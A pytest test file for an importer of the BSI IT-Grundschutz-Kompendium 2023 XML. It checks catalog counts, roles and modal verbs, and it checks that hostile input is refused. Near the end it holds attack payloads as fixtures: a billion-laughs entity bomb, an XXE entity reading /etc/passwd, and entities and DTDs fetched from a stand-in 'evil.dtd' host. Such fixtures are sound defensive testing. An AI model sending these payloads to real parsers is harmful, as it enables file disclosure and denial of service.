"""The Kompendium Edition 2023 importer: the real BSI XML, a small sample, and hostile input."""

from __future__ import annotations

from collections import Counter
from pathlib import Path

import pytest

from ikz_isms.catalog import kompendium
from ikz_isms.errors import ExitCode, HostileInputError, InputError
from tests.support import upstream_file

KOMPENDIUM = "kompendium-2023/XML_Kompendium_2023.xml"


@pytest.fixture(scope="module")
def real_catalog():
    return kompendium.load(upstream_file(KOMPENDIUM), lambda done, total: None)


def active(catalog):
    return [r for r in catalog.requirements.values() if not r.withdrawn]


# -- the real file -----------------------------------------------------------------------


@pytest.mark.upstream
def test_real_file_is_detected():
    path = upstream_file(KOMPENDIUM)
    assert kompendium.detect(path, path.read_bytes()[:65536])
    oscal = upstream_file("gspp/beta-0.9.7/Grundschutz++-Kompendium.xml")
    assert not kompendium.detect(oscal, oscal.read_bytes()[:65536])


@pytest.mark.upstream
def test_real_catalog_metadata(real_catalog):
    assert real_catalog.title == "IT-Grundschutz-Kompendium"
    assert real_catalog.version == "Edition 2023"
    assert real_catalog.source_format == "kompendium-2023"
    assert real_catalog.world == "ed2023"


@pytest.mark.upstream
def test_real_layers_and_bausteine(real_catalog):
    groups = real_catalog.groups.values()
    layers = [g for g in groups if g.kind == "layer"]
    bausteine = [g for g in groups if g.kind == "baustein"]
    assert [g.id for g in layers] == ["ISMS", "ORP", "CON", "OPS", "DER", "APP", "SYS", "IND", "NET", "INF"]
    assert real_catalog.groups["SYS"].title == "IT-Systeme"
    assert Counter(g.parent for g in bausteine) == {
        "ISMS": 1, "ORP": 5, "CON": 9, "OPS": 14, "DER": 7,
        "APP": 20, "SYS": 25, "IND": 7, "NET": 11, "INF": 12,
    }
    assert len(bausteine) == 111
    assert real_catalog.groups["SYS.1.1"].title == "Allgemeiner Server"
    assert real_catalog.groups["SYS.1.2.2"].parent == "SYS"
    assert all(g.location.startswith("Zeile ") for g in groups)


@pytest.mark.upstream
def test_real_target_object_types(real_catalog):
    bausteine = [g for g in real_catalog.groups.values() if g.kind == "baustein"]
    assert Counter(g.target_object_type for g in bausteine) == {
        "Informationsverbund": 39, "IT-System": 38, "Anwendung": 20, "Gebäude/Raum": 11, "Netz": 3,
    }
    assert real_catalog.groups["SYS.1.1"].target_object_type == "IT-System"
    assert real_catalog.groups["ISMS.1"].target_object_type == "Informationsverbund"


@pytest.mark.upstream
def test_real_requirement_counts(real_catalog):
    reqs = list(real_catalog.requirements.values())
    assert len(reqs) == 2125
    assert Counter(r.level for r in reqs) == {"B": 652, "S": 1014, "H": 459}
    withdrawn = [r for r in reqs if r.withdrawn]
    assert Counter(r.level for r in withdrawn) == {"B": 89, "S": 147, "H": 54}
    assert len(withdrawn) == 290
    assert Counter(r.level for r in active(real_catalog)) == {"B": 563, "S": 867, "H": 405}
    per_layer = Counter(real_catalog.top_group(r.group).id for r in active(real_catalog))
    assert per_layer == {
        "ISMS": 16, "ORP": 54, "CON": 114, "OPS": 247, "DER": 128,
        "APP": 301, "SYS": 460, "IND": 69, "NET": 227, "INF": 219,
    }
    assert all(r.id.startswith(r.group + ".A") for r in reqs)


@pytest.mark.upstream
def test_real_withdrawn_requirements(real_catalog):
    withdrawn = [r for r in real_catalog.requirements.values() if r.withdrawn]
    assert {r.title for r in withdrawn} == {"ENTFALLEN"}
    assert {r.statement for r in withdrawn} == {"Diese Anforderung ist entfallen."}
    assert {r.modal_verb for r in withdrawn} == {None}


@pytest.mark.upstream
def test_real_id_without_dot_is_normalised_and_noted(real_catalog):
    assert "OPS.2.3.A22" in real_catalog.requirements
    assert "OPS.2.3A22" not in real_catalog.requirements
    assert real_catalog.requirements["OPS.2.3.A22"].group == "OPS.2.3"
    notes = [n for n in real_catalog.notes if n.rule == "catalog.id-normalised"]
    assert len(notes) == 1
    assert notes[0].severity == "warning"
    assert "OPS.2.3A22" in notes[0].message and "OPS.2.3.A22" in notes[0].message
    assert notes[0].location == real_catalog.requirements["OPS.2.3.A22"].location
    # the only oddity of the corrected BSI publication
    assert [n.rule for n in real_catalog.notes] == ["catalog.id-normalised"]


@pytest.mark.upstream
def test_real_roles(real_catalog):
    reqs = real_catalog.requirements.values()
    assert sum(1 for r in reqs if r.roles) == 570
    ot_role = "OT-Betrieb (Operational Technology, OT)"
    with_ot = [r for r in reqs if ot_role in r.roles]
    assert with_ot
    assert not any(role in ("OT-Betrieb (Operational Technology", "OT)") for r in reqs for role in r.roles)
    assert all(role == role.strip() and role for r in reqs for role in r.roles)


@pytest.mark.upstream
def test_real_modal_verbs(real_catalog):
    reqs = active(real_catalog)
    assert all(r.modal_verb in ("MUSS", "SOLLTE") for r in reqs)
    assert all(r.modal_verbs_in_text for r in reqs)
    # every Basis requirement is a MUSS; five of them say it only with DARF/DÜRFEN NUR/NICHT
    assert {r.modal_verb for r in reqs if r.level == "B"} == {"MUSS"}
    only_darf = [
        r.id for r in reqs
        if {form.split()[0] for form in r.modal_verbs_in_text} <= {"DARF", "DÜRFEN"}
    ]
    assert len(only_darf) == 5
    assert Counter(r.modal_verb for r in reqs) == {"MUSS": 610, "SOLLTE": 1225}


@pytest.mark.upstream
def test_real_statements_and_locations(real_catalog):
    reqs = list(real_catalog.requirements.values())
    assert all(r.statement and r.statement == " ".join(r.statement.split()) for r in reqs)
    assert all(r.title and not r.title.endswith(("(B)", "(S)", "(H)")) for r in reqs)
    lines = [int(r.location.removeprefix("Zeile ")) for r in reqs]
    assert lines == sorted(lines) and len(set(lines)) == len(lines)


@pytest.mark.upstream
def test_real_ids_unique_and_progress_reported():
    calls = []
    catalog = kompendium.load(upstream_file(KOMPENDIUM), lambda done, total: calls.append((done, total)))
    assert len(catalog.requirements) == 2125  # dict keys: a duplicate would show as a note
    assert not [n for n in catalog.notes if n.rule == "catalog.duplicate-id"]
    assert calls[0] == (0, 111) and calls[-1] == (111, 111)
    assert [done for done, _ in calls] == list(range(112))


@pytest.mark.upstream
def test_real_file_through_the_format_registry():
    pytest.importorskip("ikz_isms.catalog.oscal", reason="OSCAL-Importer noch nicht vorhanden")
    from ikz_isms.catalog import load_catalog
    from ikz_isms.plugins import get_plugin_manager

    path = upstream_file(KOMPENDIUM)
    catalog = load_catalog(path, get_plugin_manager())
    assert catalog.source_format == "kompendium-2023"
    assert len(catalog.active_requirements()) == 1835
    assert catalog.path == str(path)


# -- a small sample written here ---------------------------------------------------------

SAMPLE = [
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<book xmlns="http://docbook.org/ns/docbook" version="5.0">',
    "<info><title>IT-Grundschutz-Kompendium</title></info>",
    "<chapter><title>Schichtenmodell und Modellierung</title>",
    "<section><title>Modellierung</title>",
    "<informaltable><thead><tr><td><para>Baustein</para></td><td><para>Reihenfolge</para></td>"
    '<td><para>Anzuwenden auf Zielobjekt<emphasis role="strong">typ</emphasis></para></td></tr></thead>',
    "<tbody>",
    "<tr><td><para>ABC.1 Beispiel</para></td><td><para>R1</para></td>"
    "<td><para>Informationsverbund/übergeordnete Aspekte</para></td></tr>",
    "<tr><td><para>ABC.1.2 Teilbaustein</para></td><td><para>R2</para></td>"
    "<td><para>Gebäude/Raum</para></td></tr>",
    "</tbody></informaltable>",
    "</section></chapter>",
    "<chapter><title>ABC Beispielschicht</title>",
    "<section><title>ABC.1 Beispiel</title>",
    "<section><title>Anforderungen</title>",
    "<section><title>Basis-Anforderung</title>",
    "<section><title>ABC.1.A1   Erste  Anforderung (B) [Rolle A, OT-Betrieb (Operational Technology, OT)]</title>",
    '<para><emphasis role="color:#000000">Alles MUSS geprüft werden.<?linebreak?>Danach DÜRFEN'
    " Änderungen NICHT</emphasis> unbemerkt bleiben:</para><itemizedlist><listitem><para>erstens"
    "</para></listitem><listitem><para>zweitens</para></listitem></itemizedlist>",
    "</section>",
    "<section><title>ABC.1.A2 ENTFALLEN (B)</title><para>Diese Anforderung ist entfallen.</para></section>",
    "</section>",
    "<section><title>Standard-Anforderungen</title>",
    "<section><title>ABC.1A3 Ohne Punkt (S)</title><para>Es SOLLTE etwas geschehen.</para></section>",
    "<section><title>ABC.1.A4 Falsche Stufe (H)</title><para>Es KANN etwas geschehen.</para></section>",
    "</section></section></section>",
    "<section><title>ABC.1.2 Teilbaustein</title>",
    "<section><title>ABC.1.A1 Doppelt (B)</title><para>Es MUSS nichts geschehen.</para></section>",
    "</section>",
    "</chapter>",
    "</book>",
]


def line_of(text: str) -> str:
    return f"Zeile {next(i for i, line in enumerate(SAMPLE, 1) if text in line)}"


@pytest.fixture
def sample(tmp_path) -> Path:
    path = tmp_path / "kompendium.xml"
    path.write_bytes("\r\n".join(SAMPLE).encode("utf-8"))
    return path


def test_sample_groups_and_target_types(sample):
    catalog = kompendium.load(sample, lambda done, total: None)
    assert list(catalog.groups) == ["ABC", "ABC.1", "ABC.1.2"]
    assert catalog.groups["ABC"].title == "Beispielschicht"
    assert catalog.groups["ABC.1"].target_object_type == "Informationsverbund"
    assert catalog.groups["ABC.1.2"].target_object_type == "Gebäude/Raum"
    assert catalog.groups["ABC.1.2"].location == line_of("<title>ABC.1.2 Teilbaustein")


def test_sample_requirement_fields(sample):
    catalog = kompendium.load(sample, lambda done, total: None)
    first = catalog.requirements["ABC.1.A1"]
    assert first.title == "Erste Anforderung"
    assert first.level == "B"
    assert first.roles == ("Rolle A", "OT-Betrieb (Operational Technology, OT)")
    assert first.statement == (
        "Alles MUSS geprüft werden. Danach DÜRFEN Änderungen NICHT unbemerkt bleiben: erstens zweitens"
    )
    assert first.modal_verb == "MUSS"
    assert first.modal_verbs_in_text == ("MUSS", "DÜRFEN")
    assert first.location == line_of("ABC.1.A1   Erste")
    withdrawn = catalog.requirements["ABC.1.A2"]
    assert withdrawn.withdrawn and withdrawn.modal_verb is None and withdrawn.roles == ()
    assert catalog.requirements["ABC.1.A3"].modal_verb == "SOLLTE"
    assert catalog.requirements["ABC.1.A4"].modal_verb == "KANN"


def test_sample_oddities_become_notes(sample):
    catalog = kompendium.load(sample, lambda done, total: None)
    notes = {(n.rule, n.location): n for n in catalog.notes}
    assert ("catalog.id-normalised", line_of("ABC.1A3")) in notes
    assert ("catalog.level-mismatch", line_of("ABC.1.A4")) in notes
    duplicate = notes[("catalog.duplicate-id", line_of("ABC.1.A1 Doppelt"))]
    assert duplicate.severity == "error"
    assert line_of("ABC.1.A1   Erste") in duplicate.message
    assert ("catalog.id-outside-baustein", line_of("ABC.1.A1 Doppelt")) in notes
    # the first occurrence wins
    assert catalog.requirements["ABC.1.A1"].title == "Erste Anforderung"


def test_role_split_respects_parentheses():
    assert kompendium.split_roles("A, B (x, y), C") == ("A", "B (x, y)", "C")
    assert kompendium.split_roles("") == ()


# -- bad and hostile input ---------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE book [
<!ENTITY lol "lol">
<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<book xmlns="http://docbook.org/ns/docbook"><info><title>&lol3;</title></info></book>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE book [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<book xmlns="http://docbook.org/ns/docbook"><info><title>&xxe;</title></info></book>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE book [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<book xmlns="http://docbook.org/ns/docbook"/>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE book SYSTEM "http://example.invalid/evil.dtd">
<book xmlns="http://docbook.org/ns/docbook"/>
"""


@pytest.mark.parametrize(
    "content, expected",
    [
        (BILLION_LAUGHS, "Entity-Deklarationen"),
        (EXTERNAL_ENTITY, "Entity-Deklarationen"),
        (PARAMETER_ENTITY, "Entity-Deklarationen"),
        (EXTERNAL_DTD, "Dokumenttyp-Deklaration"),
    ],
    ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd"],
)
def test_hostile_xml_is_refused(tmp_path, content, expected):
    path = tmp_path / "boese.xml"
    path.write_text(content, encoding="utf-8")
    assert kompendium.detect(path, path.read_bytes())
    with pytest.raises(HostileInputError) as info:
        kompendium.load(path, lambda done, total: None)
    error = info.value
    assert error.exit_code == ExitCode.INPUT
    assert error.path == str(path)
    assert expected in error.message and "aus Sicherheitsgründen abgelehnt" in error.message
    assert str(path) in str(error)
    assert "root:" not in str(error)


def test_malformed_xml_names_line_and_column(tmp_path):
    path = tmp_path / "kaputt.xml"
    path.write_text(
        '<?xml version="1.0"?>\n<book xmlns="http://docbook.org/ns/docbook">\n'
        "<chapter><title>x</title>\n</book>\n",
        encoding="utf-8",
    )
    with pytest.raises(InputError) as info:
        kompendium.load(path, lambda done, total: None)
    assert not isinstance(info.value, HostileInputError)
    assert info.value.location == "Zeile 4, Spalte 3"
    assert "ungültiges XML" in info.value.message
    assert str(info.value).startswith(f"{path}, Zeile 4, Spalte 3: ")


_ONE_REQUIREMENT = (
    '<book xmlns="http://docbook.org/ns/docbook"><info><title>K</title></info><chapter><title>SYS IT-Systeme'
    "</title><section><title>SYS.1.1 Server</title><section><title>Anforderungen</title><section><title>"
    "SYS.1.1.A1 Tür (B)</title><para>Es MUSS TEXT.</para></section></section></section></chapter></book>\n"
)


@pytest.mark.parametrize("declared", ["UTF-7", "Shift_JIS", "GBK", "gibt-es-nicht"])
def test_an_encoding_expat_cannot_read_is_a_german_input_error(tmp_path, declared):
    """Before: exit 70 (ValueError 'multi-byte encodings are not supported', LookupError)."""
    path = tmp_path / "kodierung.xml"
    path.write_text(f'<?xml version="1.0" encoding="{declared}"?>\n' + _ONE_REQUIREMENT, encoding="utf-8")
    with pytest.raises(InputError) as info:
        kompendium.load(path, lambda done, total: None)
    assert info.value.message.startswith(f"XML in der Zeichenkodierung „{declared}“ wird nicht gelesen")
    assert "UTF-8" in info.value.message and "supported" not in info.value.message
    assert info.value.location == "Zeile 1"


@pytest.mark.parametrize("text, expected", [
    ("&#0;", "Zeichenreferenz auf ein in XML unzulässiges Zeichen"),
    ("<![CDATA[ offen", "CDATA-Abschnitt nicht geschlossen"),
    ('<phrase xmlns:x="">x</phrase>', "ein Namensraum-Präfix darf nicht aufgehoben werden"),
    ('<phrase xmlns:xml="urn:x">x</phrase>', "das reservierte Präfix „xml“"),
])
def test_every_expat_error_reads_german(tmp_path, text, expected):
    path = tmp_path / "kaputt.xml"
    path.write_text('<?xml version="1.0"?>\n' + _ONE_REQUIREMENT.replace("TEXT", text), encoding="utf-8")
    with pytest.raises(InputError) as info:
        kompendium.load(path, lambda done, total: None)
    assert f"ungültiges XML: {expected}" in info.value.message
    assert info.value.location.startswith("Zeile ") and ", Spalte " in info.value.location


def test_the_german_expat_table_has_every_code():
    """A code without a German sentence would show expat's English text."""
    from xml.parsers.expat import errors

    from ikz_isms.catalog.xmlsafe import EXPAT_MESSAGES

    assert {name for name in dir(errors) if name.startswith("XML_ERROR_")} <= set(EXPAT_MESSAGES)


@pytest.mark.upstream
def test_truncated_file_is_malformed(tmp_path):
    path = tmp_path / "abgeschnitten.xml"
    path.write_bytes(upstream_file(KOMPENDIUM).read_bytes()[:100_000])
    with pytest.raises(InputError) as info:
        kompendium.load(path, lambda done, total: None)
    assert info.value.location.startswith("Zeile ")


@pytest.mark.parametrize(
    "content, expected",
    [
        ('<?xml version="1.0"?>\n<article xmlns="http://docbook.org/ns/docbook"/>\n', "<article>"),
        ("<?xml version=\"1.0\"?>\n<book><chapter/></book>\n", "ohne Namensraum"),
        (
            '<?xml version="1.0"?>\n<book xmlns="http://docbook.org/ns/docbook">'
            "<chapter><title>Vorwort</title></chapter></book>\n",
            "keine Schicht-Kapitel",
        ),
    ],
    ids=["other-root", "no-namespace", "no-layers"],
)
def test_xml_that_is_not_a_kompendium(tmp_path, content, expected):
    path = tmp_path / "anderes.xml"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(InputError) as info:
        kompendium.load(path, lambda done, total: None)
    assert "kein IT-Grundschutz-Kompendium" in info.value.message
    assert expected in info.value.message
    assert info.value.path == str(path)


def test_absurdly_deep_nesting_is_refused_without_traceback(tmp_path):
    path = tmp_path / "tief.xml"
    depth = 50_000
    path.write_text(
        '<?xml version="1.0"?>\n<book xmlns="http://docbook.org/ns/docbook">'
        "<chapter><title>ABC Schicht</title><section><title>ABC.1 Baustein</title>"
        + "<section>" * depth + "</section>" * depth
        + "</section></chapter></book>\n",
        encoding="utf-8",
    )
    with pytest.raises(InputError) as info:
        kompendium.load(path, lambda done, total: None)
    assert "zu tief verschachtelt" in info.value.message


def test_detect_needs_docbook_book():
    assert not kompendium.detect(Path("x.json"), b'{"catalog": {}}')
    assert not kompendium.detect(Path("x.xml"), b'<?xml version="1.0"?><catalog xmlns="http://csrc.nist.gov/ns/oscal/1.0"/>')


def test_cli_refuses_hostile_xml_with_input_exit_code(tmp_path, run_cli):
    path = tmp_path / "boese.xml"
    path.write_text(BILLION_LAUGHS, encoding="utf-8")
    result = run_cli("catalog", "show", "--catalog", path, "ABC.1.A1", cwd=tmp_path)
    assert result.exit_code == ExitCode.INPUT
    assert f"{path}, Zeile 3: XML enthält Entity-Deklarationen" in result.stderr
    assert "Traceback" not in result.stderr + result.output
